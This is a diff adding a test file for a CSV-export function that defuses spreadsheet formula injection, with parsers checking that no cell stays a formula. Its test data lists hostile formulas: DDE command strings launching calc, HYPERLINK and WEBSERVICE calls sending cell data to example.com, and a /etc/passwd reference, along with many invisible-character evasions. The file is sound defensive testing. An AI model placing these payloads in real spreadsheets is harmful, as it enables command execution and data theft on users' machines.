@@ -1,0 +1,191 @@
+import Papa from 'papaparse';
+import { inert } from './csv-text';
+
+test.each([
+  ['=1+1', "'=1+1"],
+  ['+62 21 5550 100', "'+62 21 5550 100"],
+  ['-5', "'-5"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\tx', "'\tx"],
+  ['\rx', "'\rx"],
+  [' =1+1', " '=1+1"],
+  ['\u200b\u3164=1+1', "\u200b\u3164'=1+1"],
+  ['＝1+1', "'＝1+1"],
+  [
+    '=HYPERLINK("http://example.com/"&A1,"Invoice")\nsecond line',
+    '\'=HYPERLINK("http://example.com/"&A1,"Invoice")\nsecond line',
+  ],
+  ["=cmd|' /C calc'!A0\nJl. 1", "'=cmd|' /C calc'!A0\nJl. 1"],
+  ['=1+1\u2028', "'=1+1\u2028"],
+  ['a;=1+1', "a;'=1+1"],
+  ['a\t"@SUM(A1)', 'a\t"\'@SUM(A1)'],
+  ["a\n-cmd|' /C calc'!A0", "a\n'-cmd|' /C calc'!A0"],
+  ['a;+SUM(A1)', "a;'+SUM(A1)"],
+])('%j is written as %j', (text, written) => {
+  expect(inert(text)).toBe(written);
+});
+
+test.each([
+  '',
+  'PT Ukur Presisi',
+  'Two lines:\n- first item\n- second item, 5 pieces\n-5 degrees\n+62 21 5550 100',
+  'x = y; a - b; 1 + 1 @ 9:00',
+  'Price: 5 (= 3 + 2), mail: sari@ukur.example',
+  'https://www.ukur.example/?a=1&b=-2',
+  "'=1+1",
+  'a,=1+1',
+])('%j stays as it is', (text) => {
+  expect(inert(text)).toBe(text);
+});
+
+test('of a list of items only the first dash gets an apostrophe', () => {
+  expect(inert('- first item\n- second item')).toBe("'- first item\n- second item");
+});
+
+test.each(['\n', ' ', '\n ', ';', '- ', '\n-', ';=', '"'])(
+  'a text of %j alone takes as much longer as it is longer',
+  (part) => {
+    const texts = [2_000, 8_000].map((length) => part.repeat(length / part.length));
+    const [short = 0, long = 0] = texts.map((text) => {
+      const started = performance.now();
+      for (let round = 0; round < 20; round += 1) inert(text);
+      return performance.now() - started;
+    });
+    // A square would be sixteen times as long. A busy machine may make any short time longer.
+    expect(long).toBeLessThan(Math.max(12 * short, 500));
+  },
+);
+
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("http://example.com/"&A1,"Invoice")',
+  "=cmd|' /C calc'!A0",
+  '=WEBSERVICE("http://example.com/"&A2)',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '-HYPERLINK("http://example.com/"&A1)',
+  "='file:///etc/passwd'#$passwd.A1",
+  "+'file:///etc/passwd'#$passwd.A1",
+  '＝1+1',
+  '＠SUM(1)',
+  '﹢SUM(1)',
+];
+const BEGINNINGS = [
+  ...[
+    '',
+    ' ',
+    '\t',
+    '\r',
+    '\n',
+    '\u00a0',
+    '\u200b',
+    '\ufeff',
+    '\u2028',
+    '\u0085',
+    '\u3164',
+    '\u0000',
+    '\u202e',
+    '"',
+  ],
+  ...[
+    'x;',
+    'x\t',
+    'x\n',
+    'x\r\n',
+    'x\u2028',
+    'x\u0085',
+    'x;  ',
+    'x;"',
+    'x\t""',
+    'x\n"',
+    '";',
+    '"\t',
+    '";"',
+    'x";"',
+    'x"\t"',
+    ';;',
+    '\t;\n',
+  ],
+];
+const ENDS = ['', '\nsecond line', ';x', '\tx', '\u2028', '"', '";"', '",'];
+
+const HOSTILE = FORMULAS.flatMap((formula) =>
+  BEGINNINGS.flatMap((beginning) => ENDS.map((end) => beginning + formula + end)),
+);
+
+/**
+ * Reads a file as spreadsheets do, whichever separator they have: a quote at the beginning of a cell opens a text, in
+ * which two stand for one, and what follows its end belongs to the cell.
+ */
+const cellsIn = (file: string, separator: string): string[] => {
+  const cells: string[] = [];
+  for (let at = 0; at < file.length; ) {
+    let cell = '';
+    if (file[at] === '"') {
+      for (at += 1; at < file.length && (file[at] !== '"' || file[at + 1] === '"'); at += 1) {
+        cell += file[at];
+        if (file[at] === '"') at += 1;
+      }
+      at += 1;
+    }
+    while (at < file.length && file[at] !== separator && !/[\r\n]/.test(file[at] ?? '')) {
+      cell += file[at];
+      at += 1;
+    }
+    cells.push(cell);
+    at += file.startsWith('\r\n', at) ? 2 : 1;
+  }
+  return cells;
+};
+
+/** Reads a file as something that knows no quotes. */
+const piecesOf = (file: string, separator: string): string[] =>
+  file.split(new RegExp(`[${separator}\\n\\v\\f\\r\\u0085\\u2028\\u2029]`));
+
+/** Whether a spreadsheet may calculate a cell: leading characters that cannot be seen may be left out, and quotes. */
+const isFormula = (cell: string): boolean =>
+  /^["\s\p{Z}\p{C}\p{Default_Ignorable_Code_Point}\u2800]*[=@＝＠＋－﹦﹫﹢﹣+-]/u.test(cell);
+
+/** Whether it would do more than to add up numbers and names of its own sheet. */
+const isHarmful = (cell: string): boolean =>
+  isFormula(cell) && (/^["\s\p{Z}\p{C}\u3164]*[^+-]/u.test(cell) || /[(|!#[]/.test(cell));
+
+const WIDTH = 3;
+
+/** Cells in each column in turn, between ordinary ones. */
+const rowsOf = (cells: readonly string[]): string[][] =>
+  cells.map((cell, index) =>
+    Array.from({ length: WIDTH }, (_, column) => (column === index % WIDTH ? cell : 'PT Ukur')),
+  );
+
+const fileOf = (cells: readonly string[]) => Papa.unparse(rowsOf(cells), { quotes: true, newline: '\r\n' });
+
+describe(`of ${HOSTILE.length} hostile cells`, () => {
+  const file = fileOf(HOSTILE.map(inert));
+
+  test('none is a formula to a spreadsheet that reads the file as it is written', () => {
+    const cells = cellsIn(file, ',');
+    expect(cells).toHaveLength(WIDTH * HOSTILE.length);
+    expect(cells.filter(isFormula)).toEqual([]);
+  });
+
+  test.each([
+    ['semicolons', ';'],
+    ['tabs', '\t'],
+  ])(
+    'none is one to a spreadsheet that separates cells by %s, whether or not it knows quotes',
+    (_what, separator) => {
+      expect(cellsIn(file, separator).filter(isHarmful)).toEqual([]);
+      expect(piecesOf(file, separator).filter(isHarmful)).toEqual([]);
+    },
+  );
+
+  test('each is one to some spreadsheet where nothing is done about it', () => {
+    const ignored = HOSTILE.filter((cell) => {
+      const bare = fileOf([cell]);
+      return ![...cellsIn(bare, ','), ...piecesOf(bare, ';'), ...piecesOf(bare, '\t')].some(isHarmful);
+    });
+    expect(ignored).toEqual([]);
+  });
+});
